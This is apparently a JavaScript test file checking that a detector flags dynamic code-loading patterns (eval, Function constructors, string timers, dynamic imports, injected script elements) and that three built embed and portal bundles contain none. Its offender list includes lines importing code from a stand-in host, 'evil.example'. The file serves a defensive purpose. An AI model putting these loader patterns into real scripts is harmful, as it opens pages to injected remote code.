/** The files for a script tag are all the code there is: none of them makes code of text, or loads more of it. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { codeLoaders } from './code-loaders.js';

const OFFENDERS = [
  'eval(text)',
  '(0, eval)(text)',
  'window.eval(text)',
  "globalThis['eval'](text)",
  'globalThis[`Function`](text)()',
  'new Function(text)()',
  'Function(text)()',
  'const { Function: make } = window; make(text)()',
  '(() => {}).constructor(text)()',
  "(async () => {})['constructor'](text)()",
  'new (() => {}).constructor(text)()',
  'setTimeout("go()", 1)',
  'window.setInterval(`go(${text})`, 1)',
  "setTimeout('go(' + text + ')', 1)",
  'import(url)',
  "import('https://evil.example/more.js')",
  "import 'https://evil.example/more.js'",
  'new Worker(url)',
  'navigator.serviceWorker.register(url)',
  "document.createElement('script').src = url",
  'document.createElement(`SCRIPT`)',
  'frame.srcdoc = text',
];

const INNOCENTS = [
  'const evaluate = () => "eval(1)"',
  '// new Function()\n"import(x)"',
  'function f() {} typeof f === "function"',
  'setTimeout(() => go(), 1)',
  'setTimeout(go, 1)',
  'a.constructor === b',
  "document.createElement('iframe').src = url",
  'const important = imports(1)',
];

describe('B20 · code that is not in the file', () => {
  for (const code of OFFENDERS) {
    it(`is recognised: ${code}`, () => assert.notDeepEqual(codeLoaders(code), []));
  }
  for (const code of INNOCENTS) {
    it(`is not seen where there is none: ${JSON.stringify(code)}`, () =>
      assert.deepEqual(codeLoaders(code), []));
  }

  for (const file of ['cdn/refport-embed.js', 'cdn/refport-portal.js', 'issuer/portal-page.js']) {
    it(`is not asked for by ${file}`, () => {
      const script = readFileSync(new URL(`../../dist/${file}`, import.meta.url), 'utf8');
      assert.deepEqual(codeLoaders(script), []);
    });
  }
});
